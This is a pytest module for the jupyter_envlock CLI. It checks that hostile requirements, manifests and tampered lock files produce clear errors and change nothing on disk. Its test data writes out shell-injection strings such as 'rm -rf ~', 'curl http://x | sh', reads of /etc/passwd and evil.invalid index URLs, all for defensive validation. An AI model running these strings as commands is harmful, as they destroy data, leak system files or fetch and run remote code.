"""Bad inputs: every invalid or hostile input gets a clear error and changes nothing (issue 6).

One project ("victim", depending on tinyb) is built once for the module; each case plants its
hostile manifest or lock, runs one command twice (in-process through the CLI's own `run`, where the
EnvlockError subclass and its message are checked, then as a real `python -m jupyter_envlock`
process, where the exit code and the one `error:` line are), and compares manifest, lock, the
project folder's listing, the env's dist-info listing, its pyvenv.cfg and its sync marker before
and after, byte for byte. REST paths outside the root and symlinks are tests/test_security.py's.
"""

from __future__ import annotations

import json
import os
import re
import shutil
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from support.cli import EnvlockRun, run_envlock

from jupyter_envlock import cli
from jupyter_envlock.core import environment, operations
from jupyter_envlock.core.errors import (
    EnvlockError,
    LockfileError,
    ManifestError,
    NotADependency,
    PythonNotFound,
    RequirementError,
    ResolutionError,
    StaleLockError,
    ToolError,
)
from jupyter_envlock.core.lockfile import Lock
from jupyter_envlock.core.progress import no_progress

pytestmark = pytest.mark.slow

NAME = "victim"
HEADER = f'[project]\nname = "{NAME}"\nversion = "0.1.0"\nrequires-python = ">=3.10"\n'


# --------------------------------------------------------------------------- shared project


@dataclass
class Victim:
    """The shared project, its good files, and a colleague's next change (tinyd added)."""

    root: Path
    manifest: bytes
    lock: bytes
    env: Path
    next_manifest: bytes
    next_lock: bytes


@pytest.fixture(scope="module")
def victim_project(scrubbed_env, local_index, tmp_path_factory) -> Victim:
    base = tmp_path_factory.mktemp("inputs")
    root = base / NAME
    root.mkdir()
    (root / "pyproject.toml").write_text(HEADER + 'dependencies = [\n    "tinyb",\n]\n')
    report = operations.sync(root)
    # The same project (same name, so the same manifest hash) one commit later, locked elsewhere.
    later = base / "later" / NAME
    later.mkdir(parents=True)
    (later / "pyproject.toml").write_bytes((root / "pyproject.toml").read_bytes())
    shutil.copy(root / "pylock.toml", later / "pylock.toml")
    operations.add(later, ["tinyd"], sync=False)
    # A package whose metadata the index still serves but whose wheel has gone (a broken mirror).
    gone = local_index.add_wheel("tinygone", "1.0.0")
    (local_index.root / "simple" / "tinygone" / gone.name).unlink()
    return Victim(
        root=root,
        manifest=(root / "pyproject.toml").read_bytes(),
        lock=(root / "pylock.toml").read_bytes(),
        env=report.sync.path,
        next_manifest=(later / "pyproject.toml").read_bytes(),
        next_lock=(later / "pylock.toml").read_bytes(),
    )


@pytest.fixture
def victim(victim_project: Victim) -> Victim:
    """The shared project back in its good, synced state (whatever the previous case did)."""
    v = victim_project
    for entry in v.root.iterdir():
        if entry.name not in ("pyproject.toml", "pylock.toml"):
            shutil.rmtree(entry) if entry.is_dir() else entry.unlink()
    (v.root / "pyproject.toml").write_bytes(v.manifest)
    (v.root / "pylock.toml").write_bytes(v.lock)
    if operations.status(v.root).state != "in-sync":
        operations.sync(v.root)
    return v


def snapshot(v: Victim) -> dict[str, object]:
    """Everything a failed command must leave alone."""

    def read(path: Path) -> bytes | None:
        return path.read_bytes() if path.exists() else None

    return {
        "pyproject.toml": read(v.root / "pyproject.toml"),
        "pylock.toml": read(v.root / "pylock.toml"),
        "project folder": sorted(os.listdir(v.root)),
        "env dist-infos": environment.dist_infos(v.env),
        "env pyvenv.cfg": read(v.env / "pyvenv.cfg"),
        "env marker": read(v.env / environment.MARKER),
    }


def run_cli(*argv: str) -> EnvlockRun:
    """`jupyter envlock ...` as a separate process, exactly as a terminal or the magics run it;
    hostile input may come back in its output as bytes that are not UTF-8."""
    return run_envlock(*argv, timeout=120, errors="replace")


# --------------------------------------------------------------------------- the cases


def _manifest(deps: str = '["tinyb"]', extra: str = "") -> Callable[[Victim], bytes]:
    return lambda v: (HEADER + f"dependencies = {deps}\n" + extra).encode()


def _text(raw: str) -> Callable[[Victim], bytes]:
    return lambda v: raw.encode()


def _raw(data: bytes) -> Callable[[Victim], bytes]:
    return lambda v: data


def _next_manifest(v: Victim) -> bytes:
    return v.next_manifest


def _lock_edit(edit: Callable[[str], str], nxt: bool = False) -> Callable[[Victim], bytes]:
    return lambda v: edit((v.next_lock if nxt else v.lock).decode()).encode()


def _package(text: str, name: str) -> tuple[int, int]:
    """Start and end offsets of one [[packages]] entry in a lock."""
    start = text.index(f'[[packages]]\nname = "{name}"')
    end = text.find("\n[[packages]]", start + 1)
    return start, (end if end != -1 else text.index("\n[tool.envlock]"))


def _tamper_hash(text: str) -> str:
    start, end = _package(text, "tinyd")
    entry = re.sub(r'sha256 = "[0-9a-f]{64}"', 'sha256 = "' + "0" * 64 + '"', text[start:end])
    return text[:start] + entry + text[end:]


def _move_url(target: str) -> Callable[[str], str]:
    """The entry's files moved to `target` (and its index with them, as a lock made against
    another machine's mirror says: a wheel of the same hash in uv's cache for *this* index would
    otherwise be used, rightly, without asking anyone)."""

    def edit(text: str) -> str:
        start, end = _package(text, "tinyd")
        entry = re.sub(r'url = "[^"]+/([^/"]+\.whl)"', f'url = "{target}\\1"', text[start:end])
        entry = re.sub(r'^index = "[^"]+"', f'index = "{target}simple"', entry, flags=re.M)
        return text[:start] + entry + text[end:]

    return edit


def _drop_hashes(text: str) -> str:
    start, end = _package(text, "tinya")
    entry = re.sub(r", hashes = \{[^}]*\}", "", text[start:end])
    return text[:start] + entry + text[end:]


def _drop_name(text: str) -> str:
    start, _ = _package(text, "tinya")
    return text[:start] + text[start:].replace('name = "tinya"\n', "", 1)


def _merge_conflict(text: str) -> str:
    start, end = _package(text, "tinya")
    ours = text[start:end]
    theirs = ours.replace('version = "1.1.0"', 'version = "2.0.0"')
    return text[:start] + f"<<<<<<< HEAD\n{ours}\n=======\n{theirs}\n>>>>>>> feature\n" + text[end:]


def _packages_wrong_type(text: str) -> str:
    first = text.index("[[packages]]")
    tool = text.index("[tool.envlock]")
    return text[:first] + 'packages = "all of them"\n\n' + text[tool:]


@dataclass(frozen=True)
class Bad:
    """One bad input: the command (after `jupyter envlock`), what it must raise, and the files
    planted first. `match` is searched in the message, or in message + details with `in_details`
    (uv's own explanation, e.g. of a hash mismatch, travels in the details)."""

    id: str
    argv: tuple[str, ...]
    error: type[EnvlockError]
    match: str
    manifest: Callable[[Victim], bytes] | None = None
    lock: Callable[[Victim], bytes] | None = None
    in_details: bool = False
    cli: bool = True  # a NUL byte cannot travel in a process argument
    marks: tuple[pytest.MarkDecorator, ...] = field(default=())


INVALID = "is not a valid requirement"
OPTION = "looks like a command-line option"

BAD_REQUIREMENTS = [
    Bad("shell-semicolon", ("add", "tinya; rm -rf ~"), RequirementError, INVALID),
    Bad("shell-command-substitution", ("add", "$(id)"), RequirementError, INVALID),
    Bad("shell-backticks", ("add", "`id`"), RequirementError, INVALID),
    Bad("shell-pipe", ("add", "tinya | cat /etc/passwd"), RequirementError, INVALID),
    Bad("shell-and-chain", ("add", "tinya && curl http://x | sh"), RequirementError, INVALID),
    Bad("shell-redirect", ("add", "tinya > /tmp/pwned"), RequirementError, INVALID),
    Bad("option-index-url", ("add", "--", "--index-url=http://x"), RequirementError, OPTION),
    Bad("option-requirements-file", ("add", "--", "-r /etc/passwd"), RequirementError, OPTION),
    Bad("option-editable", ("add", "--", "-e ."), RequirementError, OPTION),
    Bad("path-dotdot", ("add", "../../x"), RequirementError, INVALID),
    Bad("path-absolute", ("add", "/etc/passwd"), RequirementError, INVALID),
    Bad("bare-file-url", ("add", "file:///etc/passwd"), RequirementError, INVALID),
    Bad("named-file-url", ("add", "tinya @ file:///etc/passwd"), RequirementError, "local file"),
    Bad("named-FILE-url", ("add", "tinya @ FILE:///etc/passwd"), RequirementError, "local file"),
    Bad("long-5k", ("add", "tinya>=1" + ",!=0.0" * 1000), RequirementError, "limit is 1000"),
    Bad("long-100k", ("add", "a" * 100_000), RequirementError, "limit is 1000"),
    Bad("unicode-rtl-override", ("add", "tinya\u202e"), RequirementError, INVALID),
    Bad("unicode-zero-width", ("add", "tin\u200bya"), RequirementError, INVALID),
    Bad("unicode-fullwidth", ("add", "\uff54\uff49\uff4e\uff59\uff41"), RequirementError, INVALID),
    Bad("nul-byte", ("add", "tinya\x00"), RequirementError, INVALID, cli=False),
    Bad("newline-injection", ("add", "tinyd\n--index-url x"), RequirementError, INVALID),
    Bad("crlf-injection", ("add", "tinyd\r\n-r /etc/passwd"), RequirementError, INVALID),
    Bad("ansi-escape", ("add", "\x1b[2Jtinya"), RequirementError, INVALID),
    Bad("empty", ("add", ""), RequirementError, "empty requirement"),
    Bad("whitespace", ("add", "   "), RequirementError, "empty requirement"),
    Bad("dangling-operator", ("add", "tinya=="), RequirementError, INVALID),
    Bad("one-good-one-bad", ("add", "tinyd", "$(id)"), RequirementError, INVALID),
    Bad("unknown-package", ("add", "no-such-package-anywhere"), ResolutionError, "resolved"),
    Bad("conflict-with-locked", ("add", "tinyc"), ResolutionError, "resolved"),
    Bad("empty-version-range", ("add", "tinya>=2,<1"), ResolutionError, "resolved"),
    Bad("too-new-version", ("add", "tinya>=99"), ResolutionError, "resolved"),
    Bad("needs-newer-python", ("add", "tinypy313"), ResolutionError, "resolved"),
    Bad(
        "unreachable-direct-url",
        ("add", "tinyd @ http://127.0.0.1:9/tinyd-1.1.0-py3-none-any.whl"),
        ToolError,
        "could not reach",
    ),
    Bad("wheel-gone-from-index", ("add", "tinygone"), ToolError, "could not reach|failed"),
    Bad("group-path", ("add", "--group", "../x", "tinyd"), ManifestError, "group name"),
    Bad("group-space", ("add", "--group", "a b", "tinyd"), ManifestError, "group name"),
    Bad("remove-shell", ("remove", "$(id)"), NotADependency, "not a direct dependency"),
    Bad("remove-not-a-dependency", ("remove", "tinyd"), NotADependency, "not a direct"),
    Bad("upgrade-package-shell", ("lock", "--upgrade-package", "$(id)"), RequirementError, INVALID),
    Bad("upgrade-package-option", ("lock", "--upgrade-package=-x"), RequirementError, OPTION),
]

BAD_MANIFESTS = [
    Bad("deps-string", ("add", "tinyd"), ManifestError, "must be an array", _manifest('"tinya"')),
    Bad("deps-ints", ("add", "tinyd"), ManifestError, "not a string", _manifest("[1, 2]")),
    Bad(
        "project-string",
        ("add", "tinyd"),
        ManifestError,
        "must be a table",
        _text('project = "x"\n'),
    ),
    Bad(
        "requires-python-int",
        ("sync",),
        ManifestError,
        "must be a string",
        _text(f'[project]\nname = "{NAME}"\nrequires-python = 310\ndependencies = []\n'),
    ),
    Bad(
        "requires-python-garbage",
        ("sync",),
        ManifestError,
        "requires-python",
        _text(f'[project]\nname = "{NAME}"\nrequires-python = ">=banana"\ndependencies = []\n'),
    ),
    Bad(
        "requires-python-unsatisfiable",
        ("sync",),
        PythonNotFound,
        "requires-python",
        _text(f'[project]\nname = "{NAME}"\nrequires-python = "<3"\ndependencies = []\n'),
    ),
    Bad(
        "dynamic-dependencies",
        ("add", "tinyd"),
        ManifestError,
        "dynamic",
        _text(f'[project]\nname = "{NAME}"\ndynamic = ["dependencies"]\n'),
    ),
    Bad(
        "not-utf8",
        ("add", "tinyd"),
        ManifestError,
        "UTF-8",
        _raw(HEADER.encode() + b"# \xff\xfe\n"),
    ),
    Bad("not-toml", ("sync",), ManifestError, "not valid TOML", _text("[project\nname = 1\n")),
    Bad(
        "duplicate-keys",
        ("add", "tinyd"),
        ManifestError,
        "not valid TOML",
        _text(HEADER + 'dependencies = []\nname = "again"\n'),
    ),
    Bad(
        "nested-100k",
        ("sync",),
        ManifestError,
        "not valid TOML",
        _text("x = " + "[" * 100_000 + "]" * 100_000 + "\n"),
    ),
    Bad(
        "huge-1MB-broken-at-end",
        ("add", "tinyd"),
        ManifestError,
        "not valid TOML",
        _text(HEADER + "dependencies = []\n" + ("# " + "x" * 98 + "\n") * 10_000 + "[broken\n"),
    ),
    Bad(
        "groups-string",
        ("add", "--group", "dev", "tinyd"),
        ManifestError,
        "dependency-groups",
        _text('dependency-groups = "x"\n' + HEADER + "dependencies = []\n"),
    ),
    Bad(
        "group-not-array",
        ("sync",),
        ManifestError,
        "must be an array",
        _manifest(extra='[dependency-groups]\ndev = "tinyd"\n'),
    ),
    Bad(
        "hostile-requirement-inside",
        ("sync",),
        RequirementError,
        INVALID,
        _manifest('["tinyb", "tinya; rm -rf /"]'),
    ),
    Bad(
        "option-inside",
        ("sync",),
        RequirementError,
        OPTION,
        _manifest('["tinyb", "--index-url=http://evil.invalid/simple"]'),
    ),
    Bad(
        "huge-requirement-inside",
        ("sync",),
        RequirementError,
        "limit is 1000",
        _manifest('["tinyb", "' + "tinya>=1" + ",!=0.0" * 2000 + '"]'),
    ),
    Bad(
        "tool-envlock-string",
        ("add", "tinyd"),
        ManifestError,
        r"\[tool.envlock\] must be a table",
        _manifest(extra='[tool]\nenvlock = "x"\n'),
    ),
    Bad(
        "hostile-kernel-name",
        ("add", "tinyd"),
        ManifestError,
        "kernel-name",
        _manifest(extra='[tool.envlock]\nkernel-name = "../../etc/x"\n'),
    ),
    Bad(
        "tool-uv-index-string",
        ("add", "tinyd"),
        ManifestError,
        "index",
        _manifest(extra='[tool.uv]\nindex = "http://evil.invalid/simple"\n'),
    ),
    Bad(
        "project-name-absolute-path",
        ("add", "tinyd"),
        ManifestError,
        "name",
        lambda v: (
            f'[project]\nname = "{v.root.parent / "elsewhere" / "x"}"\n'
            'requires-python = ">=3.10"\ndependencies = []\n'
        ).encode(),
    ),
    Bad(
        "stale-lock-refused",
        ("sync", "--locked"),
        StaleLockError,
        "out of date",
        _next_manifest,
    ),
]

BAD_LOCKS = [
    Bad(
        "merge-conflict",
        ("sync",),
        LockfileError,
        "not valid TOML",
        lock=_lock_edit(_merge_conflict),
    ),
    Bad(
        "merge-conflict-status",
        ("status",),
        LockfileError,
        "not valid TOML",
        lock=_lock_edit(_merge_conflict),
    ),
    Bad(
        "not-utf8", ("sync",), LockfileError, "not valid TOML", lock=lambda v: v.lock + b"# \xff\n"
    ),
    Bad(
        "lock-version-2",
        ("sync",),
        LockfileError,
        "unsupported lock-version",
        lock=_lock_edit(lambda t: t.replace('lock-version = "1.0"', 'lock-version = "2.0"')),
    ),
    Bad(
        "lock-version-missing",
        ("sync",),
        LockfileError,
        "lock-version",
        lock=_lock_edit(lambda t: t.replace('lock-version = "1.0"\n', "")),
    ),
    Bad(
        "lock-version-int",
        ("status",),
        LockfileError,
        "lock-version",
        lock=_lock_edit(lambda t: t.replace('lock-version = "1.0"', "lock-version = 1")),
    ),
    Bad(
        "packages-string",
        ("sync",),
        LockfileError,
        "packages",
        lock=_lock_edit(_packages_wrong_type),
    ),
    Bad("package-without-name", ("sync",), LockfileError, "name", lock=_lock_edit(_drop_name)),
    Bad("wheel-without-hash", ("sync",), LockfileError, "hashes", lock=_lock_edit(_drop_hashes)),
    Bad(
        "export-wheel-without-hash",
        ("export",),
        LockfileError,
        "hashes",
        lock=_lock_edit(_drop_hashes),
    ),
    Bad(
        "tampered-hash",
        ("sync",),
        ToolError,
        "hash mismatch",
        _next_manifest,
        _lock_edit(_tamper_hash, nxt=True),
        in_details=True,
    ),
    Bad(
        "url-elsewhere",
        ("sync",),
        ToolError,
        "could not reach",
        _next_manifest,
        _lock_edit(_move_url("http://127.0.0.1:9/elsewhere/"), nxt=True),
    ),
    Bad(
        "url-local-file",
        ("sync",),
        LockfileError,
        "wheel filename 'passwd'",
        _next_manifest,
        _lock_edit(
            lambda t: _move_url("file:///etc/")(t).replace(
                "/etc/tinyd-1.1.0-py3-none-any.whl", "/etc/passwd"
            ),
            nxt=True,
        ),
        in_details=True,
    ),
    Bad(
        "lock-requires-python-excludes-env",
        ("sync",),
        ToolError,
        "requires-python|Python requirement",
        _next_manifest,
        _lock_edit(
            lambda t: t.replace('requires-python = ">=3.10"', 'requires-python = ">=3.99"'),
            nxt=True,
        ),
        in_details=True,
    ),
    Bad(
        "manifest-hash-wrong-type",
        ("sync", "--locked"),
        StaleLockError,
        "out of date",
        lock=_lock_edit(lambda t: re.sub(r'manifest-hash = "[0-9a-f]+"', "manifest-hash = 1", t)),
    ),
    Bad("lock-missing", ("sync", "--locked"), StaleLockError, "missing", lock=lambda v: b""),
]

CASES = [
    *[pytest.param(c, id=f"requirement-{c.id}") for c in BAD_REQUIREMENTS],
    *[pytest.param(c, id=f"manifest-{c.id}") for c in BAD_MANIFESTS],
    *[pytest.param(c, id=f"lock-{c.id}") for c in BAD_LOCKS],
]


def plant(v: Victim, case: Bad) -> None:
    if case.manifest is not None:
        (v.root / "pyproject.toml").write_bytes(case.manifest(v))
    if case.lock is not None:
        data = case.lock(v)
        if data:
            (v.root / "pylock.toml").write_bytes(data)
        else:
            (v.root / "pylock.toml").unlink()


def with_project(case: Bad, root: Path, *options: str) -> list[str]:
    """`--project ROOT` and any options right after the command name, before a `--`."""
    return [case.argv[0], "--project", str(root), *options, *case.argv[1:]]


@pytest.mark.parametrize("case", CASES)
def test_bad_input_is_a_clear_error_and_changes_nothing(victim: Victim, case: Bad):
    plant(victim, case)
    before = snapshot(victim)

    args = cli.build_parser().parse_args(with_project(case, victim.root))
    with pytest.raises(EnvlockError) as info:
        cli.dispatch(args, no_progress)
    error = info.value
    assert isinstance(error, case.error), f"{type(error).__name__}: {error.message}"
    text = error.message + ("\n" + error.details if case.in_details else "")
    assert re.search(case.match, text, re.IGNORECASE), text
    assert len(error.message) < 2000, "the message must not echo a huge input"
    assert snapshot(victim) == before
    assert not (victim.root.parent / "elsewhere").exists(), "wrote outside the project and cache"

    if not case.cli:
        return
    proc = run_cli(*with_project(case, victim.root, "--quiet"))
    assert proc.returncode == case.error.exit_code, proc.stderr
    assert "Traceback" not in proc.stderr, proc.stderr
    # envlock's one line first; uv's own explanation (the details) may follow
    assert proc.stderr.splitlines()[0] == "error: " + error.message.splitlines()[0], proc.stderr
    assert snapshot(victim) == before


JSON_CASES = ["shell-command-substitution", "unknown-package", "lock-version-2", "deps-ints"]


@pytest.mark.parametrize("name", JSON_CASES)
def test_bad_input_with_json_is_one_error_document(victim: Victim, name: str):
    """The magics read `--json` output: one document, the error's type, exit code, no traceback."""
    case = next(c for c in BAD_REQUIREMENTS + BAD_MANIFESTS + BAD_LOCKS if c.id == name)
    plant(victim, case)
    before = snapshot(victim)
    proc = run_cli(*with_project(case, victim.root, "--json"))
    assert proc.returncode == case.error.exit_code
    error = json.loads(proc.stdout)["error"]
    assert error["type"] == case.error.__name__
    assert re.search(case.match, error["message"], re.IGNORECASE)
    assert "Traceback" not in proc.stderr
    assert snapshot(victim) == before


@pytest.mark.parametrize("argv", [("lock",), ("add", "--no-sync", "tinyd")], ids=["lock", "add"])
def test_relock_replaces_a_merge_conflicted_lock(victim: Victim, argv: tuple[str, ...]):
    """After a bad merge, `lock` (or an `add`) is how a user gets a valid lock back: the broken
    file must not be handed to uv as the previous lock's preferences."""
    (victim.root / "pylock.toml").write_bytes(_lock_edit(_merge_conflict)(victim))
    cli.dispatch(
        cli.build_parser().parse_args([argv[0], "--project", str(victim.root), *argv[1:]]),
        no_progress,
    )
    assert Lock.load(victim.root / "pylock.toml").versions()["tinyb"] == "1.0.0"
    assert operations.status(victim.root).lock == "in-sync"


def test_option_like_requirement_without_double_dash_is_a_usage_error(victim: Victim):
    """argparse sees `--index-url=...` as an unknown option: exit 2, usage, no traceback."""
    before = snapshot(victim)
    proc = run_cli("add", "--project", str(victim.root), "--index-url=http://evil.invalid/simple")
    assert proc.returncode == 2
    assert "jupyter envlock add: error:" in proc.stderr
    assert "Traceback" not in proc.stderr
    assert snapshot(victim) == before


# --------------------------------------------------------------------------- settings that point at folders


@pytest.mark.parametrize("what", ["folder-with-files", "project-itself", "a-file"])
def test_env_setting_never_deletes_what_it_points_at(scrubbed_env, tmp_path: Path, what: str):
    """`[tool.envlock] env = ...` comes from a cloned repository: pointed at an existing folder
    that is not a virtualenv (or at a file), a sync must refuse, never delete it."""
    project = tmp_path / "cloned"
    project.mkdir()
    precious = {
        "folder-with-files": tmp_path / "thesis",
        "project-itself": project,
        "a-file": tmp_path / "notes.txt",
    }[what]
    if what == "a-file":
        precious.write_text("years of work\n")
    else:
        precious.mkdir(exist_ok=True)
        (precious / "chapter1.tex").write_text("years of work\n")
    target = "." if what == "project-itself" else str(precious)
    (project / "pyproject.toml").write_text(
        HEADER + f'dependencies = []\n\n[tool.envlock]\nenv = "{target}"\n'
    )
    manifest = (project / "pyproject.toml").read_bytes()
    with pytest.raises(EnvlockError, match="env"):
        operations.sync(project)
    if what == "a-file":
        assert precious.read_text() == "years of work\n"
    else:
        assert (precious / "chapter1.tex").read_text() == "years of work\n"
    assert (project / "pyproject.toml").read_bytes() == manifest
